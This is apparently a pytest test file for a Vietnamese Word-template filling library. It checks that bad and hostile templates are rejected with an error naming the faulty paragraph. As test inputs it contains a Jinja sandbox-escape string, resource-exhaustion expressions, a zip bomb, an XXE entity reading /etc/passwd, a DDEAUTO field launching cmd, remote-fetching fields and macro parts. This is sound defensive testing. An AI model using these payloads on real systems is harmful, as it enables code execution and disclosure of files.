"""Wrong and hostile templates are named with the place of the fault, and nothing in them runs."""

from io import BytesIO

import pytest
from docx import Document

from docassist.errors import BadTemplate
from docassist.slips import Fact, SlipFacts, fill
from tests.docassist.slips.cases import RECEIVED
from tests.docassist.slips.word_files import parts, template, with_part

_ONLY = "mẫu chỉ được dùng biến, điều kiện, vòng lặp"


WRONG = {
    "{{ noi_dung_sai }}": "không có biến tên “noi_dung_sai”",
    "{{ cycler }}": "không có biến tên “cycler”",
    "{{ tom_tat[0].sai }}": "dùng một mục không có",
    "{{ van_ban": "mỗi {% if %} cần {% endif %}",
    "{% if van_ban %}thiếu": "mỗi {% if %} cần {% endif %}",
    "{{ van ban }}": "viết sai cú pháp",
    "{{ van_ban|tojson }}": "không có bộ lọc “tojson”",
    "{{ van_ban|attr('upper') }}": "không có bộ lọc “attr”",
    "{{ van_ban.__class__ }}": "không được đọc thuộc tính",
    "{{ van_ban.upper() }}": _ONLY,
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": _ONLY,
    "{{ range(10) }}": _ONLY,
    "{{ 'a' * 1000000000 }}": _ONLY,
    "{{ '%1000000000d' % 1 }}": _ONLY,
    "{{ 9 ** 9 ** 9 }}": _ONLY,
    "{% include 'a' %}": _ONLY,
    "{% import 'a' as b %}": _ONLY,
    "{% macro m() %}x{% endmacro %}": _ONLY,
    "{% set a %}x{% endset %}": _ONLY,
    "{% for a in tom_tat recursive %}{{ loop(tom_tat) }}{% endfor %}": _ONLY,
    "{% set a = van_ban ~ van_ban %}": "set chỉ đặt được một chữ cố định",
    "{% for chu in van_ban %}{{ chu }}{% endfor %}": "vòng lặp chỉ chạy trên một danh sách",
    "{% for a in tom_tat %}{% for b in tom_tat %}x{% endfor %}{% endfor %}": "không đặt vòng lặp trong vòng lặp",
    "{{ van_ban|join('x')|join('y') }}": "join chỉ dùng cho một danh sách",
    "{% for a in tom_tat %}{{ loop._iterable }}{% endfor %}": "không được đọc thuộc tính",
}


@pytest.mark.parametrize(("text", "said"), WRONG.items())
def test_a_wrong_template_is_named_with_its_place(text: str, said: str) -> None:
    """One clear line: the file, the paragraph, what is wrong. No code of a template runs."""
    slip = SlipFacts(RECEIVED, paper="Công văn", facts=(Fact("a", 1),))
    with pytest.raises(BadTemplate) as caught:
        fill(template("Mở đầu", f"Đoạn hỏng: {text}", "Cuối"), "xa.docx", slip)
    message = str(caught.value)
    assert message.startswith("Mẫu xa.docx")
    assert "đoạn “Đoạn hỏng:" in message
    assert said in message
    assert "\n" not in message


def test_the_place_of_an_error_is_its_paragraph() -> None:
    """In the body and in a header."""
    with pytest.raises(BadTemplate, match=r"đoạn “Kính gửi: \{\{ kinhgui }}”"):
        fill(template("Một", "Kính gửi: {{ kinhgui }}", "Ba"), "a.docx", SlipFacts(RECEIVED))
    document = Document()
    document.sections[0].header.paragraphs[0].text = "Số: {{ so_sai }}"
    made = BytesIO()
    document.save(made)
    with pytest.raises(BadTemplate, match=r"đầu trang, đoạn “Số: \{\{ so_sai }}”"):
        fill(made.getvalue(), "a.docx", SlipFacts(RECEIVED))


def test_a_condition_that_breaks_the_page_is_refused() -> None:
    """Opened in a paragraph and closed in a cell of a table it would make a file that Word cannot open."""
    document = Document()
    document.add_paragraph("{% if van_ban %}một")
    document.add_table(1, 1).cell(0, 0).text = "hai{% endif %}"
    made = BytesIO()
    document.save(made)
    with pytest.raises(BadTemplate, match="đóng ở đoạn khác"):
        fill(made.getvalue(), "a.docx", SlipFacts(RECEIVED))


def test_what_is_no_word_file_is_refused() -> None:
    """A text, a cut file, and packages whose parts are damaged."""
    for data in (b"", b"%PDF-1.7", template("a")[:300], with_part(template("a"), "word/document.xml", b"<a")):
        with pytest.raises(BadTemplate, match=r"không phải tệp Word \.docx"):
            fill(data, "a.docx", SlipFacts(RECEIVED))
    for part in ("word/document.xml", "_rels/.rels", "[Content_Types].xml"):
        with pytest.raises(BadTemplate, match="bị hỏng"):
            fill(with_part(template("a"), part, b"<a/>"), "a.docx", SlipFacts(RECEIVED))


def test_a_file_that_swells_is_refused() -> None:
    """Zipped zeros, and entities that would be put in."""
    with pytest.raises(BadTemplate, match="quá lớn"):
        fill(with_part(template("a"), "word/media/a.png", b"0" * 51 * 2**20), "a.docx", SlipFacts(RECEIVED))
    body = parts(template("a"))["word/document.xml"].replace(b">a<", b">&x;<")
    body = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body.partition(b"?>")[2]
    with pytest.raises(BadTemplate, match="khai báo lạ"):
        fill(with_part(template("a"), "word/document.xml", body), "a.docx", SlipFacts(RECEIVED))


def test_fields_of_the_file_are_templates_too() -> None:
    """A wrong title names the place."""
    document = Document()
    document.core_properties.title = "{{ sai }}"
    made = BytesIO()
    document.save(made)
    with pytest.raises(BadTemplate, match="thuộc tính tệp"):
        fill(made.getvalue(), "a.docx", SlipFacts(RECEIVED))


@pytest.mark.parametrize(
    ("part", "content", "said"),
    [
        ("word/vbaProject.bin", b"x", "macro"),
        ("word/embeddings/oleObject1.bin", b"x", "macro"),
        ("word/footer9.xml", b'<w:ftr><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:ftr>', "tự chạy"),
        ("word/footer9.xml", b'<w:ftr><w:fldSimple w:instr="INCLUDETEXT http://a"/></w:ftr>', "tự chạy"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://a/b.dotm" '
            b'TargetMode="External"/></Relationships>',
            "tệp ở ngoài",
        ),
    ],
)
def test_a_template_that_would_start_something_is_refused(part: str, content: bytes, said: str) -> None:
    """Macros, embedded objects, fields that fetch, links to outside."""
    with pytest.raises(BadTemplate, match=said):
        fill(with_part(template("a"), part, content), "a.docx", SlipFacts(RECEIVED))
